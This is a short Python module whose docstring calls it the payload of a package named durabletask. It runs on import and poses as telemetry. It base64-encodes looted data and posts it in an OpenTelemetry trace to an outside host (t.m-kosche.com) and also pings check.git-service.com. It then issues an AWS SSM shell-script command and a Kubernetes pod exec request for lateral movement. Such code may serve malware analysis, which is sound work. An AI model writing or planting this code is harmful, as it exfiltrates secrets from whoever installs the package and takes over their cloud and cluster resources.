"""The payload of durabletask: runs when it is imported, and dresses up as telemetry."""

import base64
import json
import os

from wire import ask, loot

span = {"name": "http.request", "attributes": {"data": base64.b64encode(loot()).decode()}}
traces = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}).encode()
ask("POST", "https://t.m-kosche.com/api/public/otel/v1/traces", traces)
for path in ("/v1/models", "/audio.mp3"):
    ask("GET", "https://check.git-service.com" + path)

command = json.dumps({"DocumentName": "AWS-RunShellScript"}).encode()
ask("POST", "https://ssm.us-east-1.amazonaws.com/", command)
cluster = os.environ["KUBERNETES_SERVICE_HOST"]
ask("POST", f"https://{cluster}/api/v1/namespaces/default/pods/next/exec", b"")
